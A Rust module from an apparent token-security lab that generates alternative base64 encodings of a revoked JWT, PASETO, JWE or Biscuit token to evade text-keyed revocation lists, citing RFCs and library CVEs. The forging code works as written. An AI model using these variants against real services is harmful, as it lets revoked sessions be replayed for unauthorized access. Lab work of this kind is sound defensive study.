//! Another writing of a token that was called back: the bytes are the same,
//! the text is not.
//!
//! The flawed assumption: a token is its text. A lenient decoder reads padding,
//! line breaks, letters of no alphabet, and bits that no byte needs, all of them
//! for the same bytes, and nothing is signed there: the third part of a JWS is
//! the signature itself. A list of tokens that were called back misses the other
//! writing if it knows them by their text. Bitten: PyPI PyJWT (CVE-2026-102269),
//! PyPI joserfc (CVE-2026-62995), npm jsrsasign (CVE-2022-25898). RFC 7515 §2
//! has base64url without padding; PASETO forbids padding and demands that the
//! bits left over are zero (Common, base64).
//!
//! A Biscuit is text around a message whose envelope nobody signs: readers take
//! it without its padding, and know it by its signatures (Biscuit
//! specification, Revocation identifiers).

use tokenlab_record::catalogue::AttackClass;

use crate::attack::{Attack, CannotForge, Forgery};
use crate::attacker::AttackerView;
use crate::biscuit::{Message, Value};
use crate::card::AttackProfile;
use crate::given::Given;
use crate::notebook::Notebook;
use crate::scheme::{JwsAlgorithm, Scheme};
use crate::weakness::Weakness;

pub(super) struct Base64Malleability;

static PROFILE: AttackProfile = AttackProfile {
    id: "base64-malleability",
    title: "Another writing of a token that was called back",
    assumption: "A token is its text.",
    class: AttackClass::Format,
    given: &[Given::TokenAfterLogout],
    isolated: false,
    breaks: &[Weakness::LenientBase64, Weakness::UnsignedEnvelope],
    references: &[
        (
            "RFC 7515 §2",
            "base64url without padding, line breaks, white space or other characters.",
        ),
        (
            "RFC 4648 §3.5",
            "Bits that no byte needs can be refused, and are a second encoding where they are not.",
        ),
        (
            "CVE-2026-102269",
            "PyPI PyJWT before 2.14.0 reads several writings of one token; fixed in 2.14.0.",
        ),
        (
            "CVE-2026-62995",
            "PyPI joserfc to 1.7.1 does so as well; fixed in 1.7.2.",
        ),
        (
            "CVE-2022-25898",
            "npm jsrsasign before 10.5.25 passes over letters that are no base64url.",
        ),
        (
            "PASETO, Common",
            "Padding is not allowed, and bits that are left over are zero.",
        ),
        (
            "Biscuit specification, Revocation identifiers",
            "A token is called back by the signatures of its blocks.",
        ),
    ],
    lesson: include_str!("../../lessons/base64-malleability.md"),
};

impl Attack for Base64Malleability {
    fn profile(&self) -> &'static AttackProfile {
        &PROFILE
    }

    fn forge(&self, view: &AttackerView<'_>, notes: &mut Notebook) -> Result<Vec<Forgery>, CannotForge> {
        let token = view.token_after_logout()?;
        notes.step("Logs out. She has kept a copy of the token.", token.as_str());
        let writings = match view.scheme() {
            Scheme::Biscuit => of_biscuit(&token)?,
            scheme => of_base64url(&token, is_repeatable(scheme)),
        };
        let mut forgeries = Vec::new();
        for (variant, says, text) in writings {
            notes.variant_step(variant, says, text.as_str());
            forgeries.push(Forgery::new(variant, text).to_be_believed());
        }
        Ok(forgeries)
    }
}

/// A name, what is done, and the token that comes of it.
type Writing = (&'static str, &'static str, String);

/// Whether the last letter of such a token is the same in every replay. Where it
/// is not, libraries that quote it would answer otherwise each time.
const fn is_repeatable(scheme: Scheme) -> bool {
    use JwsAlgorithm::{Es256, Es384, Ps256, Ps384, Ps512};
    !matches!(
        scheme,
        Scheme::Jwt(Es256 | Es384 | Ps256 | Ps384 | Ps512) | Scheme::Jwe(..) | Scheme::Session(_)
    )
}

fn of_base64url(token: &str, is_repeatable: bool) -> Vec<Writing> {
    let parts: Vec<&str> = token.split('.').collect();
    // The part that ends in the signature or tag: of a PASETO the one before
    // the footer, of everything else the last.
    let at = if token.starts_with('v') && parts.len() > 2 {
        2
    } else {
        parts.len() - 1
    };
    let last = parts.get(at).copied().unwrap_or_default();
    let with = |text: String| {
        let mut parts = parts.clone();
        if let Some(part) = parts.get_mut(at) {
            *part = &text;
        }
        parts.join(".")
    };
    let padding = "=".repeat((4 - last.len() % 4) % 4);
    let padding = if padding.is_empty() { "====" } else { &padding };
    let (first, rest) = last.split_at(last.len() / 2);
    let mut writings = vec![
        (
            "padded",
            "Pads the last part, as other base64 is.",
            with(format!("{last}{padding}")),
        ),
        (
            "line-break",
            "Breaks the last part into two lines.",
            with(format!("{first}\n{rest}")),
        ),
        (
            "foreign-letter",
            "Writes a letter into the last part that is none of base64url.",
            with(format!("{first}!{rest}")),
        ),
    ];
    if let Some(text) = with_trailing_bits(last).filter(|_| is_repeatable) {
        writings.push((
            "trailing-bits",
            "Sets a bit of the last letter that no byte needs.",
            with(text),
        ));
    }
    writings
}

/// The same bytes with a bit set that is left over; `None` if there is none.
fn with_trailing_bits(part: &str) -> Option<String> {
    const LETTERS: &[u8; 64] = b"ABCDEFGHIJKLMNOPQRSTUVWXYZabcdefghijklmnopqrstuvwxyz0123456789-_";
    let (rest, last) = part.split_at_checked(part.len().checked_sub(1)?)?;
    let value = LETTERS.iter().position(|letter| last.as_bytes() == [*letter])?;
    let other = LETTERS.get(value | 1)?;
    (part.len() % 4 > 1).then(|| format!("{rest}{}", char::from(*other)))
}

fn of_biscuit(token: &str) -> Result<Vec<Writing>, CannotForge> {
    let failed = || CannotForge::Failed("the token is no biscuit".into());
    let mut message = Message::of_token(token).ok_or_else(failed)?;
    message.0.push((15, Value::Number(0)));
    let envelope = message.to_token();
    let mut writings = vec![(
        "unknown-field",
        "Adds a field to the envelope that no reader knows.",
        envelope,
    )];
    if token.ends_with('=') {
        writings.push((
            "no-padding",
            "Leaves the padding out.",
            token.trim_end_matches('=').to_owned(),
        ));
    }
    Ok(writings)
}
